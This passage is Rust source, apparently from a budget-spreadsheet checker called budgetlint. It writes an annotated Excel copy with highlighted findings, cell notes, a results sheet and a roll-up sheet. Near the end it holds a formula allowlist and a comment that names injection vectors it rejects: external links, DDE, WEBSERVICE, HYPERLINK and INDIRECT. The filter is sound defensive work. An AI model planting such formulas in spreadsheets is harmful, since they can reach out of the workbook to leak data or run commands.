//! The annotated workbook (FORMATS.md §6): the input's sheets as they were, each finding's cell filled
//! and noted, a first sheet 检查结果 listing the findings with links, and 重算汇总 with the department
//! roll-up as live formulas (cached values included) and a chart.

use std::borrow::Cow;
use std::collections::{BTreeMap, HashMap, HashSet};
use std::io::Write;
use std::sync::mpsc::SyncSender;

use rust_xlsxwriter::{Chart, ChartType, Color, Format, FormatAlign, FormatBorder, Formula, Note, Url, Workbook, Worksheet, XlsxError};

use crate::check::catalog::{rule, Severity};
use crate::check::rollup::Rollup;
use crate::model::{Amount, CellRef, Lang, ListTable, RowKind};
use crate::memory::ROWS_PER_GIVE_BACK;
use crate::read::again::each_row_again;
use crate::read::grid::{quietly, Align, Grid, GridCell, Merge, Value, EMPTY_CELL};
use crate::report::{Checked, Finding};
use crate::settings::Settings;
use super::bulk_cells::{is_written, writes, Placement};
use super::splice::{save_spliced, SplicedSheet};

const RESULTS_SHEET: &str = "检查结果";
const ROLLUP_SHEET: &str = "重算汇总";
const AMOUNT_FORMAT: &str = "#,##0.00";
/// Sheets taller than this are streamed (rust_xlsxwriter's constant-memory mode): memory stays flat,
/// but their rows go out once, so they are written only after the check. Shorter sheets are spliced
/// ([`super::bulk_cells`]: their plain cells written from the grid as the file is saved) or, holding
/// live formulas or many merged cells, copied while the check runs and their finding cells marked
/// afterwards (about 100 bytes a cell meanwhile).
const STREAMING_ROWS: u32 = 200_000;
/// Deflate level of the written file. Saving runs on one core, and deflating is a large part of it: on
/// the 100,000-row benchmark it took about 0.56 s at the default level 6, 0.25 s at 3 and 0.14 s at 1,
/// for 5.0, 6.2 (level 2) and 8.5 MB. Level 1 trades a third more bytes, which Excel drops at its next
/// save, for the faster write; a workbook of a few hundred rows differs by a few KB.
const ZIP_LEVEL: u8 = 1;
/// What Excel adds to a width in characters when it stores it (5 pixels of a 7-pixel digit, rounded down to 1/256).
const EXCEL_WIDTH_PADDING: f64 = 0.7109375;
/// Excel refuses longer formulas; a roll-up that would need one is written as its value.
const MAX_FORMULA_LEN: usize = 8000;
/// A sheet whose merges cover more cells, or more than one cell in `MERGED_SHARE`, is copied through
/// rust_xlsxwriter whole: the cells under a merge are written by it, and the bulk skips them one by one
/// (a 附件2 form has about as many cells merged as filled, a list a title and a header).
const MAX_MERGED_CELLS: u64 = 65_536;
const MERGED_SHARE: u64 = 8;
/// Sheets with fewer cells are copied through rust_xlsxwriter whole. Splicing a sheet costs about as
/// much as rust_xlsxwriter spends on 200 cells (its part of the package is inflated, read and deflated
/// again); a form of 附件2 (a few hundred cells, a hundred forms to a file) took 8 % more instructions
/// spliced, a 200-project 附件1 6 % fewer (callgrind).
const MIN_SPLICED_CELLS: u64 = 1_000;

fn fill(severity: Severity) -> Color {
    match severity {
        Severity::Error => Color::RGB(0xFFC7CE),
        Severity::Warning => Color::RGB(0xFFE699),
        Severity::Info => Color::RGB(0xBDD7EE),
    }
}

/// The annotated copy of `grids` (the input's sheets, read with their layout) as .xlsx bytes.
///
/// # Errors
/// What rust_xlsxwriter reports (an invalid sheet name, a cell out of Excel's range).
pub fn annotated_workbook(grids: &[Grid], checked: &Checked, settings: &Settings) -> Result<Vec<u8>, XlsxError> {
    let mut bytes = Vec::new();
    copy_sheets(grids)?.finish(grids, checked, settings, &mut bytes)?;
    Ok(bytes)
}

/// The input's sheets placed in a new workbook before the findings are known, those not spliced copied
/// too, so the copy can be made while the check runs; [`SheetsCopy::finish`] then marks the findings
/// and adds our sheets.
pub struct SheetsCopy {
    book: Workbook,
    names: SheetNames,
    streaming_rows: u32,
    /// For each sheet, whether its plain cells are to be written by [`super::bulk_cells`] as the
    /// file is saved, rather than copied into rust_xlsxwriter now.
    spliced: Vec<bool>,
}

/// Copies every sheet that is neither streamed nor spliced; those and 检查结果 are placed, left empty.
///
/// # Errors
/// What rust_xlsxwriter reports (an invalid sheet name, a cell out of Excel's range).
pub fn copy_sheets(grids: &[Grid]) -> Result<SheetsCopy, XlsxError> {
    copy_sheets_with(grids, STREAMING_ROWS, MIN_SPLICED_CELLS)
}

/// Whether the check is to let go of the sheets' cells and the copy read them again from the file:
/// a sheet is long enough to be streamed, and every worksheet can be read again.
pub fn reads_cells_again(grids: &[Grid]) -> bool {
    grids.iter().any(|g| g.height() > STREAMING_ROWS) && grids.iter().all(Grid::can_read_again)
}

/// Sheets over `streaming_rows` rows are streamed; the others of `spliced_cells` cells or more spliced.
fn copy_sheets_with(grids: &[Grid], streaming_rows: u32, spliced_cells: u64) -> Result<SheetsCopy, XlsxError> {
    let names = SheetNames::new(grids);
    let mut book = Workbook::new();
    book.add_worksheet().set_name(&names.results)?;
    let spliced: Vec<bool> = grids.iter().map(|grid| is_spliced(grid, streaming_rows, spliced_cells)).collect();
    for (index, grid) in grids.iter().enumerate() {
        if grid.height() > streaming_rows || grid.cells_let_go() {
            book.add_worksheet_with_constant_memory()?.set_name(names.output_of(index))?;
        } else if spliced[index] {
            book.add_worksheet().set_name(names.output_of(index))?;
        } else {
            let sheet = book.add_worksheet();
            sheet.set_name(names.output_of(index))?;
            SheetCopy::new(grid, &HashMap::new(), grid.height()).write(sheet, Formatting::ByRun)?;
        }
    }
    Ok(SheetsCopy { book, names, streaming_rows, spliced })
}

/// Whether a sheet's plain cells are written by [`super::bulk_cells`]: one of `min_cells` cells or more
/// held whole (not streamed), without live formulas (which rust_xlsxwriter writes with their results)
/// and with few merged cells.
fn is_spliced(grid: &Grid, streaming_rows: u32, min_cells: u64) -> bool {
    let area = |m: &Merge| u64::from(m.first_row.abs_diff(m.last_row) + 1) * u64::from(m.first_col.abs_diff(m.last_col) + 1);
    let merged_cells: u64 = grid.merges().iter().map(area).sum();
    let cells: u64 = (0..grid.height()).map(|row| grid.row_cells(row).len() as u64).sum();
    let few_merged = merged_cells <= MAX_MERGED_CELLS && merged_cells * MERGED_SHARE <= cells;
    few_merged && cells >= min_cells && grid.height() <= streaming_rows && !grid.cells_let_go() && grid.layout.formulas.is_empty()
}

impl SheetsCopy {
    /// Marks the findings of `checked` on the copied sheets, writes the streamed ones, fills
    /// 检查结果 and adds 重算汇总, and writes the .xlsx to `out` (a file, rather than bytes held
    /// whole: the copy of a million-row list is 80 MB).
    ///
    /// # Errors
    /// What rust_xlsxwriter reports, writing to `out` included.
    pub fn finish(self, grids: &[Grid], checked: &Checked, settings: &Settings, out: impl Write + Send) -> Result<(), XlsxError> {
        self.mark(grids, checked, settings)?.save(out)
    }

    /// [`SheetsCopy::finish`] but for the writing out: the copy is then complete and needs neither
    /// the grids nor `checked` any more.
    ///
    /// # Errors
    /// What rust_xlsxwriter reports.
    pub fn mark<'g>(self, grids: &'g [Grid], checked: &Checked, settings: &Settings) -> Result<MarkedCopy<'g>, XlsxError> {
        let (book, placed) = self.mark_with(grids, Vec::new(), checked, settings)?;
        let spliced = placed.into_iter().map(|(index, placement)| SplicedSheet { part: sheet_part(index), grid: Cow::Borrowed(&grids[index]), placement });
        Ok(MarkedCopy { book, spliced: spliced.collect() })
    }

    /// [`SheetsCopy::mark`] for a caller done with the grids: the rows of each streamed sheet are
    /// dropped as they are written, the spliced sheets' grids kept for their bulk, the rest let go.
    ///
    /// # Errors
    /// What rust_xlsxwriter reports.
    pub fn mark_letting_go(self, mut grids: Vec<Grid>, checked: &Checked, settings: &Settings) -> Result<MarkedCopy<'static>, XlsxError> {
        let streaming_rows = self.streaming_rows;
        let taken = grids.iter_mut().map(|grid| (grid.height() > streaming_rows && !grid.cells_let_go()).then(|| grid.take_rows())).collect();
        let marked = self.mark_with(&grids, taken, checked, settings);
        let mut grids: Vec<Option<Grid>> = grids.into_iter().map(Some).collect();
        let marked = marked.map(|(book, placed)| {
            let spliced = placed.into_iter().filter_map(|(index, placement)| {
                let grid = grids.get_mut(index).and_then(Option::take)?;
                Some(SplicedSheet { part: sheet_part(index), grid: Cow::Owned(grid), placement })
            });
            MarkedCopy { book, spliced: spliced.collect() }
        });
        crate::parallel::drop_aside(grids);
        marked
    }

    /// `taken`: for each sheet, the rows taken out of its grid, if they were (none past its end).
    /// Gives the workbook with each spliced sheet's placement, by the sheet's index.
    fn mark_with(self, grids: &[Grid], mut taken: Vec<Option<Vec<Vec<GridCell>>>>, checked: &Checked, settings: &Settings) -> Result<(Workbook, Vec<(usize, Placement)>), XlsxError> {
        let SheetsCopy { mut book, names, streaming_rows, spliced } = self;
        let mut placed = Vec::new();
        let findings: Vec<&Finding> = checked.findings.iter().filter(|f| settings.shows(f.severity)).collect();
        write_results_sheet(book.worksheet_from_index(0)?, &findings, &names, settings.lang)?;
        for (index, grid) in grids.iter().enumerate() {
            let sheet = book.worksheet_from_index(index + 1)?;
            let notes = notes_by_cell(&findings, &grid.name, settings.lang);
            let rows = taken.get_mut(index).and_then(Option::take);
            let height = rows.as_ref().map_or(grid.height(), |rows| rows.len() as u32);
            let mut copy = SheetCopy::new(grid, &notes, height);
            if let Some(rows) = rows {
                copy.write_taking(sheet, rows)?;
            } else if spliced.get(index).copied().unwrap_or(false) {
                placed.push((index, copy.write_outline(sheet)?));
            } else if grid.cells_let_go() {
                copy.write_read_again(sheet)?;
            } else if height > streaming_rows {
                copy.write(sheet, Formatting::PerCell)?;
            } else {
                copy.mark_findings(sheet)?;
            }
            copy.write_notes(sheet)?;
            if let Some(table) = checked.workbook.tables.iter().find(|t| t.sheet == grid.name) {
                sheet.set_freeze_panes(table.header_rows.1 + 1, 0)?;
            }
        }
        write_rollup_sheet(&mut book, checked, &names, settings.lang)?;
        Ok((book, placed))
    }
}

/// The part rust_xlsxwriter saves the input's sheet `index` as (检查结果 being the first).
fn sheet_part(index: usize) -> String {
    format!("xl/worksheets/sheet{}.xml", index + 2)
}

/// An annotated copy complete but for its writing out, which is where rust_xlsxwriter assembles the
/// file's parts (its largest allocations, the notes copied twice, come only then) and the spliced
/// sheets' bulk cells are written, from their grids.
pub struct MarkedCopy<'g> {
    book: Workbook,
    spliced: Vec<SplicedSheet<'g>>,
}

impl MarkedCopy<'_> {
    /// Writes the .xlsx to `out`.
    ///
    /// # Errors
    /// What rust_xlsxwriter reports, writing to `out` included.
    pub fn save(self, out: impl Write + Send) -> Result<(), XlsxError> {
        let MarkedCopy { mut book, spliced } = self;
        book.set_zip_compression_level(ZIP_LEVEL);
        if spliced.is_empty() {
            let saved = book.save_to_writer(out);
            crate::parallel::drop_aside(book);
            return saved;
        }
        // What rust_xlsxwriter writes is then small: the spliced sheets hold only their outlines.
        let mut package = Vec::new();
        book.save_to_writer(&mut package)?;
        crate::parallel::drop_aside(book);
        save_spliced(&package, &spliced, ZIP_LEVEL, out)
    }
}

/// Output sheet names: the input's where Excel takes them. A name Excel refuses (longer than 31
/// characters, as .ods allows; with `[]:*?/\\`; starting or ending with `'`; repeated, case aside) is
/// made one it takes, and the two sheets budgetlint adds yield to the input's.
struct SheetNames {
    /// The output name of each input sheet, in order.
    outputs: Vec<String>,
    inputs: HashMap<String, usize>,
    results: String,
    rollup: String,
}

impl SheetNames {
    fn new(grids: &[Grid]) -> SheetNames {
        let mut taken = HashSet::new();
        let outputs: Vec<String> = grids.iter().map(|g| excel_sheet_name(&g.name, &mut taken)).collect();
        let mut inputs = HashMap::with_capacity(grids.len());
        for (index, grid) in grids.iter().enumerate() {
            inputs.entry(grid.name.clone()).or_insert(index);
        }
        let mut ours = |base: &str| {
            let name = if taken.contains(&base.to_lowercase()) { format!("{base}(budgetlint)") } else { base.to_string() };
            excel_sheet_name(&name, &mut taken)
        };
        let (results, rollup) = (ours(RESULTS_SHEET), ours(ROLLUP_SHEET));
        SheetNames { outputs, inputs, results, rollup }
    }

    /// The output name of the input sheet `input` (of the first, where a file repeats a name).
    fn output<'a>(&'a self, input: &'a str) -> &'a str {
        self.inputs.get(input).map_or(input, |&index| self.outputs[index].as_str())
    }

    fn output_of(&self, index: usize) -> &str {
        &self.outputs[index]
    }
}

/// Excel's longest sheet name, in UTF-16 units.
const MAX_SHEET_NAME: usize = 31;

/// `name` as a sheet name Excel takes and no sheet in `taken` (lowercased) has, which it joins.
fn excel_sheet_name(name: &str, taken: &mut HashSet<String>) -> String {
    let cleaned: String = name.chars().map(|c| if "[]:*?/\\".contains(c) || c.is_control() { '_' } else { c }).collect();
    let cleaned = cleaned.trim_matches('\'');
    let base = if cleaned.trim().is_empty() { "Sheet" } else { cleaned };
    let mut candidate = within_units(base, MAX_SHEET_NAME).trim_end_matches('\'').to_string();
    let mut number = 1;
    // `History` is reserved by Excel for its change tracking.
    while candidate.is_empty() || taken.contains(&candidate.to_lowercase()) || candidate.eq_ignore_ascii_case("history") {
        number += 1;
        let suffix = format!("({number})");
        candidate = format!("{}{suffix}", within_units(base, MAX_SHEET_NAME - suffix.len()).trim_end_matches('\''));
    }
    taken.insert(candidate.to_lowercase());
    candidate
}

fn quoted(sheet: &str) -> String {
    format!("'{}'", sheet.replace('\'', "''"))
}

/// One note per cell gathering every finding on it, and the most serious severity for its fill.
fn notes_by_cell(findings: &[&Finding], sheet: &str, lang: Lang) -> HashMap<(u32, u32), (Severity, String)> {
    let mut notes: HashMap<(u32, u32), (Severity, String)> = HashMap::new();
    for finding in findings.iter().filter(|f| f.sheet == sheet) {
        let Some(cell) = finding.cell else { continue };
        let entry = notes.entry((cell.row, cell.col)).or_insert((finding.severity, String::new()));
        entry.0 = entry.0.max(finding.severity);
        if !entry.1.is_empty() {
            entry.1.push_str("\n\n");
        }
        entry.1.push_str(&note_text(finding, lang));
    }
    notes
}

fn note_text(finding: &Finding, lang: Lang) -> String {
    let mut text = format!("[{} {}] {}", finding.rule, finding.severity.label(lang), finding.message);
    let parts = [
        (lang.pick("所填", "found"), &finding.found),
        (lang.pick("应为", "expected"), &finding.expected),
        (lang.pick("依据", "inputs"), &finding.inputs),
    ];
    for (label, value) in parts {
        if let Some(value) = value {
            text.push_str(&format!("\n{label}：{value}"));
        }
    }
    text
}

/// Copies one sheet: values and types, formats, merges, widths and heights, plus the findings.
struct SheetCopy<'a> {
    grid: &'a Grid,
    notes: &'a HashMap<(u32, u32), (Severity, String)>,
    /// Rows holding a note, so the other cells skip the lookup.
    noted_rows: Vec<bool>,
    /// Formats by look and fill, indexed `look × 4 + fill` (0 none, 1 info, 2 warning, 3 error);
    /// slot 0 is the default format, which a plain write gives.
    formats: Vec<Option<Format>>,
    /// Per column, the run of formatted cells just above that shares one format.
    runs: Vec<Option<FormatRun>>,
}

/// Consecutive cells of one column with one format. rust_xlsxwriter hashes the whole Format on
/// every formatted write, which was most of the time spent copying a sheet; cells are written plain
/// and each run formatted with one hash.
#[derive(Debug, Clone, Copy)]
struct FormatRun {
    first_row: u32,
    last_row: u32,
    slot: usize,
}

/// The longest run formatted at once. rust_xlsxwriter finds each cell of a run in its table of rows
/// again; the rows written last are still in the processor's cache, a run down a whole list's
/// column is not (a 100,000-row list's copy: about 15 % less time with runs of 1,024 rows).
const MAX_RUN_ROWS: u32 = 1024;

/// When a written cell gets its format.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Formatting {
    /// With the cell: a streamed sheet's rows are gone once written, and re-marked cells are few.
    PerCell,
    /// When its column's run ends.
    ByRun,
}

fn noted_rows(notes: &HashMap<(u32, u32), (Severity, String)>, height: u32) -> Vec<bool> {
    let mut rows = vec![false; height as usize + 1];
    for &(row, _) in notes.keys() {
        if let Some(slot) = rows.get_mut(row as usize) {
            *slot = true;
        }
    }
    rows
}

/// The fills a cell can get, by slot: none, info, warning, error.
const FILLS: [Option<Severity>; 4] = [None, Some(Severity::Info), Some(Severity::Warning), Some(Severity::Error)];

fn fill_slot(severity: Option<Severity>) -> usize {
    FILLS.iter().position(|f| *f == severity).unwrap_or(0)
}

impl<'a> SheetCopy<'a> {
    /// `height`: the sheet's rows, whether still in the grid or taken out of it.
    fn new(grid: &'a Grid, notes: &'a HashMap<(u32, u32), (Severity, String)>, height: u32) -> SheetCopy<'a> {
        SheetCopy { grid, notes, noted_rows: noted_rows(notes, height), formats: Vec::new(), runs: Vec::new() }
    }

    /// Values, formats, merges, widths and heights, with the fills of any notes already known.
    fn write(&mut self, sheet: &mut Worksheet, formatting: Formatting) -> Result<(), XlsxError> {
        let grid = self.grid;
        self.write_rows(sheet, (0..grid.height()).map(|row| grid.row_cells(row)), formatting)
    }

    /// [`SheetCopy::write`] from the sheet's rows taken out of its grid, each dropped once written:
    /// a long sheet is then not held whole beside the copy's notes as they are saved.
    fn write_taking(&mut self, sheet: &mut Worksheet, rows: Vec<Vec<GridCell>>) -> Result<(), XlsxError> {
        let rows = rows.into_iter().enumerate().map(|(row, cells)| {
            if row > 0 && row.is_multiple_of(ROWS_PER_GIVE_BACK) {
                crate::memory::give_back_freed();
            }
            cells
        });
        self.write_rows(sheet, rows, Formatting::PerCell)
    }

    /// [`SheetCopy::write`] for a sheet whose list let go of its cells: they are read again from the
    /// file on another thread, a batch of rows at a time, and each row dropped once written.
    fn write_read_again(&mut self, sheet: &mut Worksheet) -> Result<(), XlsxError> {
        let grid = self.grid;
        let (send, receive) = std::sync::mpsc::sync_channel(BATCHES_AHEAD);
        let (written, read) = std::thread::scope(|scope| {
            let reader = scope.spawn(move || read_again_in_batches(grid, send));
            let given = receive.into_iter().flatten();
            let written = self.write_rows(sheet, every_row(given, grid.height()), Formatting::PerCell);
            (written, reader.join().unwrap_or_else(|_| Err("reader panicked".into())))
        });
        // The reader's thread freed what it held (the shared strings) in an arena of its own.
        crate::memory::give_back_freed();
        written?;
        read.map_err(XlsxError::CustomError)
    }

    fn write_rows<R: std::borrow::Borrow<[GridCell]>>(
        &mut self,
        sheet: &mut Worksheet,
        rows: impl Iterator<Item = R>,
        formatting: Formatting,
    ) -> Result<(), XlsxError> {
        let grid = self.grid;
        self.write_sizes(sheet)?;
        let mut merges = excel_merges(grid.merges()).into_iter().peekable();
        for (row, cells) in rows.enumerate() {
            let (row, cells) = (row as u32, cells.borrow());
            let cell = |col: u32| cells.get(col as usize).unwrap_or(&EMPTY_CELL);
            // Rows go out in order: a merge first, then the row's own cells over its anchor.
            while let Some(merge) = merges.next_if(|m| m.first_row <= row) {
                let slot = self.slot(cell(merge.first_col), (merge.first_row, merge.first_col));
                sheet.merge_range(merge.first_row, merge.first_col as u16, merge.last_row, merge.last_col as u16, "", self.format(slot))?;
            }
            for col in 0..(cells.len() as u32).max(self.last_noted_col(row) + 1) {
                self.write_cell(sheet, row, col, cell(col), formatting)?;
            }
        }
        for col in 0..self.runs.len() {
            self.end_run(sheet, col)?;
        }
        Ok(())
    }

    fn write_sizes(&self, sheet: &mut Worksheet) -> Result<(), XlsxError> {
        let grid = self.grid;
        for &(first, last, stored) in &grid.layout.column_widths {
            // The file stores widths with Excel's cell padding added; rust_xlsxwriter adds it again.
            let width = if stored > 1.0 { stored - EXCEL_WIDTH_PADDING } else { stored };
            for col in first..=last.min(grid.max_width() + 16) {
                sheet.set_column_width(col as u16, width)?;
            }
        }
        for &(row, height) in &grid.layout.row_heights {
            sheet.set_row_height(row, height)?;
        }
        Ok(())
    }

    /// Everything of a spliced sheet but its bulk cells, which [`super::bulk_cells`] writes as the
    /// file is saved: widths and heights, merges and the cells under them, the noted cells, the cells
    /// the bulk leaves to rust_xlsxwriter and one cell of each look the bulk writes. The same cells,
    /// formats and values as [`SheetCopy::write`] and [`SheetCopy::mark_findings`] give.
    fn write_outline(&mut self, sheet: &mut Worksheet) -> Result<Placement, XlsxError> {
        let grid = self.grid;
        self.write_sizes(sheet)?;
        let mut placement = Placement::new(grid.height());
        for merge in excel_merges(grid.merges()).into_iter().filter(|m| m.first_row < grid.height()) {
            let slot = self.slot(grid.cell(merge.first_row, merge.first_col), (merge.first_row, merge.first_col));
            sheet.merge_range(merge.first_row, merge.first_col as u16, merge.last_row, merge.last_col as u16, "", self.format(slot))?;
            for row in merge.first_row..=merge.last_row {
                for col in merge.first_col..=merge.last_col {
                    self.write_cell(sheet, row, col, grid.cell(row, col), Formatting::PerCell)?;
                    placement.leave_to_writer(row, col);
                }
            }
        }
        for row in 0..grid.height() {
            for (col, cell) in grid.row_cells(row).iter().enumerate() {
                let col = col as u32;
                if !is_written(cell) || placement.is_left_to_writer(row, col) || self.is_noted(row, col) {
                    continue;
                }
                let bulk = writes(cell);
                if bulk && !placement.needs_sample(cell.look) {
                    placement.count_bulk(row, col);
                    continue;
                }
                if bulk {
                    placement.sample(cell.look, row, col);
                }
                self.write_cell(sheet, row, col, cell, Formatting::PerCell)?;
                placement.leave_to_writer(row, col);
            }
        }
        for (row, col) in self.noted_cells() {
            placement.leave_to_writer(row, col);
        }
        self.mark_findings(sheet)?;
        Ok(placement)
    }

    fn is_noted(&self, row: u32, col: u32) -> bool {
        self.noted_rows.get(row as usize).copied().unwrap_or(false) && self.notes.contains_key(&(row, col))
    }

    /// Writes the noted cells of a sheet copied before the notes were known again, with their fill.
    fn mark_findings(&mut self, sheet: &mut Worksheet) -> Result<(), XlsxError> {
        for (row, col) in self.noted_cells() {
            self.write_cell(sheet, row, col, self.grid.cell(row, col), Formatting::PerCell)?;
        }
        Ok(())
    }

    /// In sheet order: the copy's formats are then made, and numbered, the same on every run.
    fn noted_cells(&self) -> Vec<(u32, u32)> {
        let mut cells: Vec<(u32, u32)> = self.notes.keys().copied().collect();
        cells.sort_unstable();
        cells
    }

    fn write_notes(&self, sheet: &mut Worksheet) -> Result<(), XlsxError> {
        for (row, col) in self.noted_cells() {
            let (_, text) = &self.notes[&(row, col)];
            // rust_xlsxwriter keeps 54 units of a note for its author line.
            sheet.insert_note(row, col as u16, &Note::new(within_units(text, EXCEL_CELL_UNITS - 54)).set_author("budgetlint"))?;
        }
        Ok(())
    }

    /// The last column of a row that has a note (0 when none), so blank noted cells are reached.
    fn last_noted_col(&self, row: u32) -> u32 {
        if !self.noted_rows.get(row as usize).copied().unwrap_or(false) {
            return 0;
        }
        self.notes.keys().filter(|(r, _)| *r == row).map(|(_, c)| *c).max().unwrap_or(0)
    }

    /// The slot in `formats` of a cell's format: its look and its fill.
    fn slot(&self, cell: &GridCell, at: (u32, u32)) -> usize {
        let noted = self.noted_rows.get(at.0 as usize).copied().unwrap_or(false);
        let severity = if noted { self.notes.get(&at).map(|(s, _)| *s) } else { None };
        cell.look as usize * FILLS.len() + fill_slot(severity)
    }

    /// The format of a slot, made on first use.
    fn format(&mut self, slot: usize) -> &Format {
        if self.formats.len() <= slot {
            self.formats.resize(slot + 1, None);
        }
        let grid = self.grid;
        self.formats[slot].get_or_insert_with(|| {
            let look = grid.looks.get(slot / FILLS.len()).cloned().unwrap_or_default();
            let mut format = Format::new();
            if let Some(code) = &look.number_format {
                format = format.set_num_format(code);
            }
            if look.bold {
                format = format.set_bold();
            }
            if look.wrap {
                format = format.set_text_wrap();
            }
            for align in alignment(look.horizontal, look.vertical) {
                format = format.set_align(align);
            }
            if let Some(severity) = FILLS[slot % FILLS.len()] {
                format = format.set_background_color(fill(severity)).set_border(FormatBorder::Thin);
            }
            format
        })
    }

    fn write_cell(&mut self, sheet: &mut Worksheet, row: u32, col: u32, cell: &GridCell, formatting: Formatting) -> Result<(), XlsxError> {
        let grid = self.grid;
        let col16 = col as u16;
        let blank = match &cell.value {
            Value::Empty => true,
            Value::Text(t) => t.is_empty(),
            _ => false,
        };
        if blank {
            // A blank cell with a finding (V001) still gets its fill; other blanks keep their format.
            let noted = self.notes.contains_key(&(row, col)) && !grid.is_merged_from_above(row, col);
            if noted || cell.value != Value::Empty {
                let slot = self.slot(cell, (row, col));
                sheet.write_blank(row, col16, self.format(slot))?;
            }
            return Ok(());
        }
        let formula = match grid.layout.formulas.is_empty() {
            true => None,
            false => grid.layout.formulas.get(&(row, col)).filter(|t| is_plain_arithmetic(t)),
        };
        match (formula, &cell.value) {
            // Neither the file nor budgetlint has its result: Excel computes it on opening.
            (Some(text), Value::Formula(_)) => sheet.write_formula(row, col16, Formula::new(format!("={text}")))?,
            (Some(text), value) => {
                let cached = value.display().unwrap_or_default();
                sheet.write_formula(row, col16, Formula::new(format!("={text}")).set_result(cached))?
            }
            (None, Value::Number(n)) => sheet.write_number(row, col16, *n)?,
            (None, Value::Bool(b)) => sheet.write_boolean(row, col16, *b)?,
            // Text stays text, `=` included: nothing the user typed becomes a formula.
            (None, Value::Text(t) | Value::Error(t) | Value::Date(t)) => sheet.write_string(row, col16, within_excel(t))?,
            // A formula not safe to copy live is shown as its text.
            (None, Value::Formula(f)) => sheet.write_string(row, col16, within_excel(&format!("={f}")))?,
            (None, Value::Empty) => sheet,
        };
        let slot = self.slot(cell, (row, col));
        match formatting {
            // Slot 0 is what the plain write gave.
            _ if slot == 0 => Ok(()),
            Formatting::PerCell => sheet.set_cell_format(row, col16, self.format(slot)).map(|_| ()),
            Formatting::ByRun => self.extend_run(sheet, row, col, slot),
        }
    }

    fn extend_run(&mut self, sheet: &mut Worksheet, row: u32, col: u32, slot: usize) -> Result<(), XlsxError> {
        if self.runs.len() <= col as usize {
            self.runs.resize(col as usize + 1, None);
        }
        let extends = |r: &&mut FormatRun| r.slot == slot && r.last_row + 1 == row && r.last_row - r.first_row < MAX_RUN_ROWS;
        if let Some(run) = self.runs[col as usize].as_mut().filter(extends) {
            run.last_row = row;
            return Ok(());
        }
        self.end_run(sheet, col as usize)?;
        self.runs[col as usize] = Some(FormatRun { first_row: row, last_row: row, slot });
        Ok(())
    }

    fn end_run(&mut self, sheet: &mut Worksheet, col: usize) -> Result<(), XlsxError> {
        if let Some(run) = self.runs.get_mut(col).and_then(Option::take) {
            sheet.set_range_format(run.first_row, col as u16, run.last_row, col as u16, self.format(run.slot))?;
        }
        Ok(())
    }
}

/// Batches of rows read again that may wait for the writer.
const BATCHES_AHEAD: usize = 4;
const ROWS_PER_BATCH: usize = 1024;

/// Reads `grid`'s cells again, sending them in batches of rows; stops when the writer has stopped.
fn read_again_in_batches(grid: &Grid, send: SyncSender<Vec<(u32, Vec<GridCell>)>>) -> Result<(), String> {
    let mut batch = Vec::with_capacity(ROWS_PER_BATCH);
    let read = quietly(|| {
        each_row_again(grid, |row, cells| {
            batch.push((row, cells));
            batch.len() < ROWS_PER_BATCH || send.send(std::mem::replace(&mut batch, Vec::with_capacity(ROWS_PER_BATCH))).is_ok()
        })
    });
    let read = read.unwrap_or_else(|panic| Err(format!("internal error: {panic}")));
    if read.is_ok() && !batch.is_empty() {
        // A writer that stopped has its own error to tell.
        let _ = send.send(batch);
    }
    read
}

/// Rows 0 up to `height`: those `given` (in order), and empty ones between and after them.
fn every_row(given: impl Iterator<Item = (u32, Vec<GridCell>)>, height: u32) -> impl Iterator<Item = Vec<GridCell>> {
    let mut given = given.peekable();
    (0..height).map(move |row| given.next_if(|(at, _)| *at == row).map(|(_, cells)| cells).unwrap_or_default())
}

fn alignment(horizontal: Align, vertical: Align) -> Vec<FormatAlign> {
    let h = match horizontal {
        Align::Start => Some(FormatAlign::Left),
        Align::Center => Some(FormatAlign::Center),
        Align::End => Some(FormatAlign::Right),
        Align::Default => None,
    };
    let v = match vertical {
        Align::Start => Some(FormatAlign::Top),
        Align::Center => Some(FormatAlign::VerticalCenter),
        Align::End | Align::Default => None,
    };
    h.into_iter().chain(v).collect()
}

/// The merges of a sheet Excel takes, by their first row, corners in order: one cell "merged" alone or a
/// range over one merged before it (a file may say either; Excel and rust_xlsxwriter refuse both) is
/// left out, its cells copied as they are.
fn excel_merges(merges: &[Merge]) -> Vec<Merge> {
    let ordered = |m: &Merge| Merge {
        first_row: m.first_row.min(m.last_row),
        first_col: m.first_col.min(m.last_col),
        last_row: m.first_row.max(m.last_row),
        last_col: m.first_col.max(m.last_col),
    };
    let mut sorted: Vec<Merge> = merges.iter().map(ordered).filter(|m| (m.first_row, m.first_col) != (m.last_row, m.last_col)).collect();
    sorted.sort_by_key(|m| (m.first_row, m.first_col));
    let mut kept: Vec<Merge> = Vec::with_capacity(sorted.len());
    // Those kept that reach the row being placed: only they can overlap a merge starting there.
    let mut open: Vec<Merge> = Vec::new();
    for merge in sorted {
        open.retain(|m| m.last_row >= merge.first_row);
        let overlaps = open.iter().any(|m| m.first_col <= merge.last_col && merge.first_col <= m.last_col);
        if !overlaps {
            open.push(merge);
            kept.push(merge);
        }
    }
    kept
}

/// Excel's most characters (UTF-16 units, as it counts them) in a cell.
const EXCEL_CELL_UNITS: usize = 32_767;

/// A text as much of it as a cell holds: a longer one (read under a raised `max_cell_chars`, or one of
/// characters beyond the BMP, which count twice) is cut there in the copy.
pub(super) fn within_excel(text: &str) -> &str {
    within_units(text, EXCEL_CELL_UNITS)
}

/// The longest start of `text` that is at most `units` UTF-16 units long.
fn within_units(text: &str, units: usize) -> &str {
    let mut used = 0;
    for (at, c) in text.char_indices() {
        used += c.len_utf16();
        if used > units {
            return &text[..at];
        }
    }
    text
}

/// Functions a reproduced formula may call: arithmetic within the workbook, nothing that reaches out.
const PLAIN_FUNCTIONS: &[&str] = &[
    "SUM", "ROUND", "ROUNDUP", "ROUNDDOWN", "ABS", "MIN", "MAX", "AVERAGE", "COUNT", "COUNTA", "IF", "IFERROR",
    "SUMIF", "SUMIFS", "COUNTIF", "COUNTIFS", "SUMPRODUCT", "AND", "OR", "NOT", "INT", "MOD", "SUBTOTAL",
];

/// Whether a formula is plain in-workbook arithmetic (no external links `[..]`, no DDE `|`,
/// no function outside `PLAIN_FUNCTIONS` such as WEBSERVICE, HYPERLINK or INDIRECT).
pub fn is_plain_arithmetic(formula: &str) -> bool {
    let unquoted = strip_string_literals(formula);
    if unquoted.contains(['[', '|', '{']) {
        return false;
    }
    let chars: Vec<char> = unquoted.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        if chars[i].is_ascii_alphabetic() || chars[i] == '_' {
            let start = i;
            while i < chars.len() && (chars[i].is_ascii_alphanumeric() || matches!(chars[i], '_' | '.')) {
